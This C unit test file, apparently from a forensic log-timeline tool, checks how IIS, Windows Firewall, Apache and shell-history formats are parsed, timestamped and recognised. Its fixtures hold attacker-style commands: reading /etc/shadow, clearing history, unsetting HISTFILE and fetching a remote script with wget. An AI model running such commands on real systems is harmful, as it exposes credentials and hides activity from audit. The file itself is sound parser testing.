/* SPDX-License-Identifier: MIT */
/*
 * test_fmt_web.c - the W3C/IIS, Windows Firewall, Apache/nginx and shell
 * history formats: bids, times, zones, hosts and time notes, line by line.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

#include "formats/format.h"

#define MAX_LINES	64
#define NELEM(a)	(sizeof(a) / sizeof((a)[0]))

static const char note_iis[] = "UTC by W3C/IIS log convention";
static const char note_iis_date[] =
    "date from the #Date header; UTC by W3C/IIS log convention";
static const char note_fw_utc[] = "UTC by the #Time Format header";
static const char note_bash[] = "time from the #epoch line before it";
static const char note_zsh[] =
    "time from the zsh history line the command starts on";

/* Samples: each format's own, and others the formats must not claim. */
static const char *const iis_log[] = {
	"#Software: Microsoft Internet Information Services 8.5",
	"#Version: 1.0",
	"#Date: 2016-03-14 00:00:12",
	"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
	    "cs-username c-ip cs(User-Agent) cs(Referer) sc-status "
	    "sc-substatus sc-win32-status time-taken",
	"2016-03-14 02:11:09 10.0.0.12 POST /iisstart.aspx - 443 - "
	    "203.0.113.50 Mozilla/5.0+(Windows+NT+6.1;+WOW64;+rv:45.0)+"
	    "Gecko/20100101+Firefox/45.0 - 200 0 0 312",
	"2016-03-14 02:11:10 10.0.0.12 GET /update/padre1.txt - 80 - "
	    "198.51.100.30 CertUtil+URL+Agent - 200 0 0 31",
	"#Software: Microsoft Internet Information Services 8.5",
	"#Version: 1.0",
	"#Date: 2016-03-14 03:00:00",
	"#Fields: time s-computername date c-ip cs-method cs-uri-stem "
	    "sc-status",
	"03:00:01 WEB01 2016-03-14 203.0.113.50 POST /iisstart.aspx 200",
	"03:00:02.250 - 2016-03-14 10.0.0.5 GET / 200",
	"03:00:03 WEB01",
	"#Remark: 2016-03-14 04:00:00 not a date header",
	"03:00:04\tWEB02\t2016-03-14\t10.0.0.5 GET / 200",
};

static const char *const iis_time_only[] = {
	"#Software: Microsoft Internet Information Services 6.0",
	"#Version: 1.0",
	"#Date: 2015-07-01 00:00:00",
	"#Fields: time c-ip cs-method cs-uri-stem sc-status",
	"12:30:00 192.0.2.1 GET /default.htm 200",
};

/* A time-only log going on past midnight without a new #Date header. */
static const char *const iis_midnight[] = {
	"#Software: Microsoft Internet Information Services 6.0",
	"#Version: 1.0",
	"#Date: 2015-12-31 22:00:00",
	"#Fields: time c-ip cs-method cs-uri-stem sc-status",
	"23:59:58 192.0.2.1 GET /a 200",
	"23:59:57 192.0.2.1 GET /late-by-a-second 200",
	"00:00:01 192.0.2.1 GET /b 200",
	"13:00:00 192.0.2.1 GET /c 200",
	"00:00:02 192.0.2.1 GET /d 200",
	"#Date: 2016-03-14 03:00:00",
	"03:00:01 192.0.2.1 GET /e 200",
};

static const char *const w3c_generic[] = {
	"#Version: 1.0",
	"#Date: 2015-07-01 00:00:00",
	"#Fields: date time c-ip c-port s-ip s-port cs-version cs-method "
	    "cs-uri streamid sc-status s-siteid s-reason s-queuename",
	"2015-07-01 08:00:00 192.0.2.7 51000 10.0.0.12 80 HTTP/1.1 GET "
	    "/a - 400 - BadRequest -",
};

static const char *const iis_headerless[] = {
	"2016-03-14 02:11:09 10.0.0.12 POST /iisstart.aspx - 443 - "
	    "203.0.113.50 Mozilla/5.0 - 200 0 0 312",
	"2016-03-14 02:11:10 10.0.0.12 GET /iisstart.htm - 80 - "
	    "10.0.0.5 Mozilla/5.0 - 200 0 0 15",
};

static const char *const fw_log[] = {
	"#Version: 1.5",
	"#Software: Microsoft Windows Firewall",
	"#Time Format: Local",
	"#Fields: date time action protocol src-ip dst-ip src-port dst-port "
	    "size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path",
	"",
	"2016-03-14 10:01:02 ALLOW TCP 10.0.0.5 10.0.0.12 49712 3389 0 - 0 0 "
	    "0 - - - RECEIVE",
	"2016-03-14 10:01:07 DROP UDP 203.0.113.50 10.0.0.12 53211 161 0 - - "
	    "- - - - - RECEIVE",
};

static const char *const fw_utc[] = {
	"#Version: 1.5",
	"#Software: Microsoft Windows Firewall",
	"#Time Format: UTC",
	"#Fields: date time action protocol src-ip dst-ip src-port dst-port "
	    "size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path",
	"2016-03-14 10:01:02 ALLOW TCP 10.0.0.5 10.0.0.12 49712 3389 0 - 0 0 "
	    "0 - - - RECEIVE",
};

static const char *const fw_no_software[] = {
	"#Version: 1.5",
	"#Fields: date time action protocol src-ip dst-ip src-port dst-port",
	"2016-03-14 10:01:02 DROP TCP 10.0.0.5 10.0.0.12 49712 445",
};

static const char *const fw_headerless[] = {
	"2016-03-14 10:01:02 ALLOW TCP 10.0.0.5 10.0.0.12 49712 3389 0 - 0 0 "
	    "0 - - - RECEIVE",
	"2016-03-14 10:01:07 DROP UDP 203.0.113.50 10.0.0.12 53211 161 0 - - "
	    "- - - - - RECEIVE",
};

static const char *const apache_log[] = {
	"203.0.113.9 - - [12/Apr/2016:03:14:07 +0200] \"GET /update/"
	    "padre1.txt HTTP/1.1\" 200 48213 \"-\" \"CertUtil URL Agent\"",
	"198.51.100.7 - frank [10/Oct/2015:13:55:36 -0700] \"GET "
	    "/apache_pb.gif HTTP/1.0\" 200 2326",
	"www.example.com:443 203.0.113.9 - - [31/Dec/2015:23:59:59 -0700] "
	    "\"POST /login HTTP/1.1\" 302 - \"https://www.example.com/\" "
	    "\"Mozilla/5.0\"",
	"2001:db8::5 - - [01/Jan/2016:00:00:00 +0000] \"GET / HTTP/2.0\" "
	    "200 612 \"-\" \"curl/7.47.0\"",
	"this is not [a stamp] at all",
	"192.0.2.1 - - [31/Apr/2016:03:14:07 +0200] \"GET / HTTP/1.1\" 200 1",
};

static const char *const bash_log[] = {
	"#1451606400",
	"cat /etc/shadow",
	"# not an epoch, a comment",
	"ls -la",
	"#1451606460",
	"",
	"unset HISTFILE",
	"#1451606520",
	"# a comment right after an epoch is its command",
	"#12",
	"history -c",
	"#9999999999",
	"echo out of range",
	"#14516065200",
	"echo eleven digits",
};

static const char *const zsh_log[] = {
	": 1451606400:0;sudo cat /etc/shadow",
	": 1451606405:3;for f in a b; do \\",
	"  echo $f \\",
	"done",
	"plain line",
	": 1451606410:0;history -c",
	":1451606410:0;no space",
	": 1451606415:;no duration",
	": 1451606415:0 no semicolon",
};

static const char *const plain_history[] = {
	"ls -la",
	"cd /tmp",
	"wget http://203.0.113.9/x.sh",
	"# a comment",
	"sudo cat /etc/shadow",
};

static const char *const syslog_log[] = {
	"Mar 27 13:08:09 ubuntu-1 sshd[1361]: Accepted publickey for test_user "
	    "from 8.8.8.8 port 12345 ssh2",
	"Mar 27 13:10:08 ubuntu-1 sudo:   ubuntu : TTY=pts/0 ; PWD=/home/x ; "
	    "USER=root ; COMMAND=/usr/bin/apt-key add -",
};

static const char *const text_log[] = {
	"Hello, this is a plain text file.",
	"It has no timestamps at all.",
	"# but a line starting with a hash",
};

/* A sample's lines, each in a block of its exact size (no NUL after). */
struct run {
	size_t		 n;
	char		*buf[MAX_LINES];
	struct line	 lines[MAX_LINES];
	struct record	 rec[MAX_LINES];
};

static void
run_load(struct run *rn, const char *const *text, size_t n)
{
	assert_true(n <= MAX_LINES);
	memset(rn, 0, sizeof(*rn));
	rn->n = n;
	for (size_t i = 0; i < n; i++) {
		size_t len = strlen(text[i]);

		rn->buf[i] = malloc(len > 0 ? len : 1);
		assert_non_null(rn->buf[i]);
		memcpy(rn->buf[i], text[i], len);
		rn->lines[i].p = rn->buf[i];
		rn->lines[i].len = len;
		rn->lines[i].no = i + 1;
	}
}

static void
run_free(struct run *rn)
{
	for (size_t i = 0; i < rn->n; i++)
		free(rn->buf[i]);
}

/* Feed every line to f, as the scanner does; with its state if asked. */
static void
run_parse(struct run *rn, const struct format *f, int with_state)
{
	struct fmt_stream fs;

	memset(&fs, 0, sizeof(fs));
	ts_year_init(&fs.year);
	if (with_state && f->open != NULL)
		fs.priv = f->open();
	for (size_t i = 0; i < rn->n; i++) {
		struct record *r = &rn->rec[i];

		memset(r, 0, sizeof(*r));
		r->text = rn->lines[i].p;
		r->len = rn->lines[i].len;
		f->parse(&fs, r);
	}
	if (fs.priv != NULL && f->close != NULL)
		f->close(fs.priv);
}

/* f's bid on a sample. */
static int
bid_on(const struct format *f, const char *const *text, size_t n)
{
	struct run rn;
	int b;

	run_load(&rn, text, n);
	b = f->bid(rn.lines, rn.n);
	run_free(&rn);
	return b;
}

/* The format that wins the bidding on a sample. */
static const char *
winner(const char *const *text, size_t n)
{
	struct run rn;
	const char *name;

	run_load(&rn, text, n);
	name = format_choose(rn.lines, rn.n)->name;
	run_free(&rn);
	return name;
}

static void
expect_note(const struct record *r, const char *note)
{
	if (note == NULL && r->time_note != NULL)
		fail_msg("unexpected note \"%s\"", r->time_note);
	if (note != NULL) {
		assert_non_null(r->time_note);
		assert_string_equal(r->time_note, note);
	}
}

/* r has a full time: utc as RFC 3339 (civil as is if no offset). */
static void
expect_time(const struct record *r, const char *utc, int has_offset,
    const char *note)
{
	char buf[TS_RFC3339_LEN];

	assert_int_equal(r->time, REC_TIME_FULL);
	assert_int_equal(r->civil.has_year, 1);
	assert_int_equal(r->civil.has_offset, has_offset);
	assert_true(ts_civil_valid(&r->civil));
	ts_format_rfc3339(ts_civil_to_us(&r->civil, 0), buf);
	assert_string_equal(buf, utc);
	expect_note(r, note);
}

static void
expect_none(const struct record *r)
{
	assert_int_equal(r->time, REC_TIME_NONE);
	expect_note(r, NULL);
}

static void
expect_host(const struct record *r, const char *host)
{
	if (host == NULL) {
		assert_null(r->host);
		return;
	}
	assert_non_null(r->host);
	assert_int_equal(r->host_len, strlen(host));
	assert_memory_equal(r->host, host, strlen(host));
	assert_true(r->host >= r->text && r->host + r->host_len <=
	    r->text + r->len);
}

static void
test_w3c_iis(void **state)
{
	struct run rn;

	(void)state;
	run_load(&rn, iis_log, NELEM(iis_log));
	run_parse(&rn, &format_w3c, 1);
	expect_none(&rn.rec[0]);
	expect_none(&rn.rec[1]);
	expect_time(&rn.rec[2], "2016-03-14T00:00:12.000000Z", 1, note_iis);
	expect_none(&rn.rec[3]);
	expect_time(&rn.rec[4], "2016-03-14T02:11:09.000000Z", 1, note_iis);
	assert_int_equal(rn.rec[4].civil.offset_s, 0);
	expect_host(&rn.rec[4], NULL);
	expect_time(&rn.rec[5], "2016-03-14T02:11:10.000000Z", 1, note_iis);
	expect_time(&rn.rec[8], "2016-03-14T03:00:00.000000Z", 1, note_iis);
	/* after the restart: other columns, other order, a host */
	expect_time(&rn.rec[10], "2016-03-14T03:00:01.000000Z", 1, note_iis);
	expect_host(&rn.rec[10], "WEB01");
	expect_time(&rn.rec[11], "2016-03-14T03:00:02.250000Z", 1, note_iis);
	expect_host(&rn.rec[11], NULL);
	expect_none(&rn.rec[12]);		/* too few columns */
	expect_host(&rn.rec[12], "WEB01");
	expect_none(&rn.rec[13]);		/* #Remark: no time */
	expect_time(&rn.rec[14], "2016-03-14T03:00:04.000000Z", 1, note_iis);
	expect_host(&rn.rec[14], "WEB02");	/* tabs separate too */
	run_free(&rn);
}

static void
test_w3c_date_header(void **state)
{
	struct run rn;

	(void)state;
	run_load(&rn, iis_time_only, NELEM(iis_time_only));
	run_parse(&rn, &format_w3c, 1);
	expect_time(&rn.rec[2], "2015-07-01T00:00:00.000000Z", 1, note_iis);
	expect_time(&rn.rec[4], "2015-07-01T12:30:00.000000Z", 1,
	    note_iis_date);
	run_free(&rn);
}

static void
test_w3c_time_only_midnight(void **state)
{
	static const char note_midnight[] = "date from the #Date header and "
	    "the midnights since; UTC by W3C/IIS log convention";
	struct run rn;

	(void)state;
	run_load(&rn, iis_midnight, NELEM(iis_midnight));
	run_parse(&rn, &format_w3c, 1);
	expect_time(&rn.rec[4], "2015-12-31T23:59:58.000000Z", 1,
	    note_iis_date);
	expect_time(&rn.rec[5], "2015-12-31T23:59:57.000000Z", 1,
	    note_iis_date);
	expect_time(&rn.rec[6], "2016-01-01T00:00:01.000000Z", 1,
	    note_midnight);
	expect_time(&rn.rec[7], "2016-01-01T13:00:00.000000Z", 1,
	    note_midnight);
	expect_time(&rn.rec[8], "2016-01-02T00:00:02.000000Z", 1,
	    note_midnight);
	/* A new #Date header starts again from its own date. */
	expect_time(&rn.rec[10], "2016-03-14T03:00:01.000000Z", 1,
	    note_iis_date);
	run_free(&rn);
}

static void
test_w3c_no_state(void **state)
{
	struct run rn;

	(void)state;
	/* Without per-stream state the default map is date, time. */
	run_load(&rn, iis_log, NELEM(iis_log));
	run_parse(&rn, &format_w3c, 0);
	expect_time(&rn.rec[4], "2016-03-14T02:11:09.000000Z", 1, note_iis);
	expect_none(&rn.rec[10]);
	run_free(&rn);
	run_load(&rn, fw_log, NELEM(fw_log));
	run_parse(&rn, &format_winfw, 0);
	expect_time(&rn.rec[5], "2016-03-14T10:01:02.000000Z", 0, NULL);
	run_free(&rn);
}

static void
test_winfw_local(void **state)
{
	struct run rn;

	(void)state;
	run_load(&rn, fw_log, NELEM(fw_log));
	run_parse(&rn, &format_winfw, 1);
	for (size_t i = 0; i < 5; i++)
		expect_none(&rn.rec[i]);
	expect_time(&rn.rec[5], "2016-03-14T10:01:02.000000Z", 0, NULL);
	assert_int_equal(rn.rec[5].civil.hour, 10);
	expect_host(&rn.rec[5], NULL);
	expect_time(&rn.rec[6], "2016-03-14T10:01:07.000000Z", 0, NULL);
	run_free(&rn);
}

static void
test_winfw_utc(void **state)
{
	struct run rn;

	(void)state;
	run_load(&rn, fw_utc, NELEM(fw_utc));
	run_parse(&rn, &format_winfw, 1);
	expect_none(&rn.rec[2]);
	expect_time(&rn.rec[4], "2016-03-14T10:01:02.000000Z", 1,
	    note_fw_utc);
	assert_int_equal(rn.rec[4].civil.offset_s, 0);
	run_free(&rn);
}

static void
test_apache(void **state)
{
	struct run rn;

	(void)state;
	run_load(&rn, apache_log, NELEM(apache_log));
	run_parse(&rn, &format_apache, 1);
	expect_time(&rn.rec[0], "2016-04-12T01:14:07.000000Z", 1, NULL);
	assert_int_equal(rn.rec[0].civil.hour, 3);
	assert_int_equal(rn.rec[0].civil.offset_s, 2 * 3600);
	expect_host(&rn.rec[0], NULL);
	expect_time(&rn.rec[1], "2015-10-10T20:55:36.000000Z", 1, NULL);
	assert_int_equal(rn.rec[1].civil.hour, 13);
	assert_int_equal(rn.rec[1].civil.offset_s, -7 * 3600);
	expect_time(&rn.rec[2], "2016-01-01T06:59:59.000000Z", 1, NULL);
	assert_int_equal(rn.rec[2].civil.year, 2015);
	expect_host(&rn.rec[2], NULL);
	expect_time(&rn.rec[3], "2016-01-01T00:00:00.000000Z", 1, NULL);
	expect_none(&rn.rec[4]);
	expect_none(&rn.rec[5]);		/* April 31st */
	run_free(&rn);
}

static void
test_bash_history(void **state)
{
	struct run rn;

	(void)state;
	run_load(&rn, bash_log, NELEM(bash_log));
	run_parse(&rn, &format_shell_history, 1);
	expect_time(&rn.rec[0], "2016-01-01T00:00:00.000000Z", 1, NULL);
	assert_int_equal(rn.rec[0].civil.offset_s, 0);
	expect_time(&rn.rec[1], "2016-01-01T00:00:00.000000Z", 1, note_bash);
	expect_none(&rn.rec[2]);		/* a comment, not an epoch */
	expect_none(&rn.rec[3]);		/* no epoch before it */
	expect_time(&rn.rec[4], "2016-01-01T00:01:00.000000Z", 1, NULL);
	expect_none(&rn.rec[5]);		/* blank: bash skips it */
	expect_time(&rn.rec[6], "2016-01-01T00:01:00.000000Z", 1,
	    note_bash);
	expect_time(&rn.rec[7], "2016-01-01T00:02:00.000000Z", 1, NULL);
	expect_time(&rn.rec[8], "2016-01-01T00:02:00.000000Z", 1,
	    note_bash);
	expect_none(&rn.rec[9]);		/* "#12": a stamp, no time */
	expect_none(&rn.rec[10]);
	expect_none(&rn.rec[11]);		/* year 2286 */
	expect_none(&rn.rec[12]);
	expect_none(&rn.rec[13]);		/* eleven digits */
	expect_none(&rn.rec[14]);
	run_free(&rn);

	/* Without state the epoch lines still carry their own time. */
	run_load(&rn, bash_log, NELEM(bash_log));
	run_parse(&rn, &format_shell_history, 0);
	expect_time(&rn.rec[0], "2016-01-01T00:00:00.000000Z", 1, NULL);
	expect_none(&rn.rec[1]);
	run_free(&rn);
}

static void
test_zsh_history(void **state)
{
	struct run rn;

	(void)state;
	run_load(&rn, zsh_log, NELEM(zsh_log));
	run_parse(&rn, &format_shell_history, 1);
	expect_time(&rn.rec[0], "2016-01-01T00:00:00.000000Z", 1, NULL);
	assert_int_equal(rn.rec[0].civil.offset_s, 0);
	expect_time(&rn.rec[1], "2016-01-01T00:00:05.000000Z", 1, NULL);
	expect_time(&rn.rec[2], "2016-01-01T00:00:05.000000Z", 1, note_zsh);
	expect_time(&rn.rec[3], "2016-01-01T00:00:05.000000Z", 1, note_zsh);
	expect_none(&rn.rec[4]);
	expect_time(&rn.rec[5], "2016-01-01T00:00:10.000000Z", 1, NULL);
	expect_none(&rn.rec[6]);
	expect_none(&rn.rec[7]);
	expect_none(&rn.rec[8]);
	run_free(&rn);
}

static void
test_bids_own(void **state)
{
	(void)state;
	assert_int_equal(bid_on(&format_w3c, iis_log, NELEM(iis_log)), 95);
	assert_int_equal(bid_on(&format_w3c, iis_time_only,
	    NELEM(iis_time_only)), 95);
	assert_int_equal(bid_on(&format_w3c, iis_time_only + 1,
	    NELEM(iis_time_only) - 1), 80);
	assert_int_equal(bid_on(&format_w3c, w3c_generic,
	    NELEM(w3c_generic)), 90);
	assert_int_equal(bid_on(&format_w3c, iis_headerless,
	    NELEM(iis_headerless)), 40);
	assert_int_equal(bid_on(&format_winfw, fw_log, NELEM(fw_log)), 95);
	assert_int_equal(bid_on(&format_winfw, fw_utc, NELEM(fw_utc)), 95);
	assert_int_equal(bid_on(&format_winfw, fw_no_software,
	    NELEM(fw_no_software)), 90);
	assert_int_equal(bid_on(&format_winfw, fw_headerless,
	    NELEM(fw_headerless)), 40);
	assert_true(bid_on(&format_apache, apache_log, 4) >= 90);
	/* 4 of 6 lines are access log lines: more than half */
	assert_true(bid_on(&format_apache, apache_log,
	    NELEM(apache_log)) > 50);
	assert_true(bid_on(&format_shell_history, bash_log, 2) >= 90);
	assert_true(bid_on(&format_shell_history, bash_log, 9) >= 70);
	assert_true(bid_on(&format_shell_history, zsh_log, 6) >= 80);
}

static void
test_bids_others(void **state)
{
	static const struct {
		const char *const	*text;
		size_t			 n;
		const char		*owner;	/* its format, or NULL */
	} samples[] = {
		{ iis_log, NELEM(iis_log), "w3c" },
		{ w3c_generic, NELEM(w3c_generic), "w3c" },
		{ iis_headerless, NELEM(iis_headerless), "w3c" },
		{ fw_log, NELEM(fw_log), "firewall" },
		{ fw_no_software, NELEM(fw_no_software), "firewall" },
		{ fw_headerless, NELEM(fw_headerless), "firewall" },
		{ apache_log, NELEM(apache_log), "apache" },
		{ bash_log, NELEM(bash_log), "shell_history" },
		{ zsh_log, NELEM(zsh_log), "shell_history" },
		{ plain_history, NELEM(plain_history), NULL },
		{ syslog_log, NELEM(syslog_log), NULL },
		{ text_log, NELEM(text_log), NULL },
	};
	const struct format *const mine[] = {
		&format_w3c, &format_winfw, &format_apache,
		&format_shell_history,
	};

	(void)state;
	for (size_t i = 0; i < NELEM(samples); i++) {
		for (size_t f = 0; f < NELEM(mine); f++) {
			int b = bid_on(mine[f], samples[i].text, samples[i].n);
			int own = samples[i].owner != NULL &&
			    strcmp(samples[i].owner, mine[f]->name) == 0;

			if (own ? b < 40 : b != 0)
				fail_msg("%s bids %d on sample %zu",
				    mine[f]->name, b, i);
		}
		if (samples[i].owner != NULL)
			assert_string_equal(winner(samples[i].text,
			    samples[i].n), samples[i].owner);
	}
}

/* Hostile lines: no crash, no read past the end (ASan), bounded work. */
static void
test_hostile(void **state)
{
	static const char alphabet[] = "#:; -/[]\"0123456789abAZ+\t\\.";
	const struct format *const mine[] = {
		&format_w3c, &format_winfw, &format_apache,
		&format_shell_history,
	};
	char *text[MAX_LINES];
	uint32_t seed = 12345;

	(void)state;
	for (int round = 0; round < 200; round++) {
		struct run rn;

		for (size_t i = 0; i < MAX_LINES; i++) {
			size_t len = ((seed = seed * 1103515245u + 12345u) >>
			    16) & 63;

			text[i] = malloc(len + 1);
			assert_non_null(text[i]);
			for (size_t k = 0; k < len; k++) {
				seed = seed * 1103515245u + 12345u;
				text[i][k] = alphabet[(seed >> 16) %
				    (sizeof(alphabet) - 1)];
			}
			text[i][len] = '\0';
		}
		if (round % 4 == 0)
			memcpy(text[0], "#Fields:", strlen(text[0]) < 8 ?
			    strlen(text[0]) : 8);
		run_load(&rn, (const char *const *)text, MAX_LINES);
		for (size_t f = 0; f < NELEM(mine); f++) {
			int b = mine[f]->bid(rn.lines, rn.n);

			assert_true(b >= 0 && b <= 100);
			run_parse(&rn, mine[f], round % 2);
		}
		run_free(&rn);
		for (size_t i = 0; i < MAX_LINES; i++)
			free(text[i]);
	}
}

/* Append the string t at *pos of buf. */
static void
append(char *buf, size_t *pos, const char *t)
{
	size_t n = strlen(t);

	memcpy(buf + *pos, t, n + 1);
	*pos += n;
}

/* A header of many fields and a row of many columns. */
static void
test_wide(void **state)
{
	enum { COLS = 5000 };
	char *hdr = malloc(64 + COLS * 4), *row = malloc(64 + COLS * 2);
	const char *text[3];
	struct run rn;
	size_t h = 0, w = 0;

	(void)state;
	assert_non_null(hdr);
	assert_non_null(row);
	append(hdr, &h, "#Fields:");
	for (int i = 0; i < COLS - 3; i++) {
		append(hdr, &h, " x-y");
		append(row, &w, "x ");
	}
	append(hdr, &h, " date time s-computername");
	append(row, &w, "2016-03-14 01:02:03 WEB9");
	text[0] = "#Software: Microsoft Internet Information Services 10.0";
	text[1] = hdr;
	text[2] = row;
	run_load(&rn, text, 3);
	run_parse(&rn, &format_w3c, 1);
	expect_time(&rn.rec[2], "2016-03-14T01:02:03.000000Z", 1, note_iis);
	expect_host(&rn.rec[2], "WEB9");
	run_free(&rn);
	free(hdr);
	free(row);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_w3c_iis),
		cmocka_unit_test(test_w3c_date_header),
		cmocka_unit_test(test_w3c_time_only_midnight),
		cmocka_unit_test(test_w3c_no_state),
		cmocka_unit_test(test_winfw_local),
		cmocka_unit_test(test_winfw_utc),
		cmocka_unit_test(test_apache),
		cmocka_unit_test(test_bash_history),
		cmocka_unit_test(test_zsh_history),
		cmocka_unit_test(test_bids_own),
		cmocka_unit_test(test_bids_others),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_wide),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
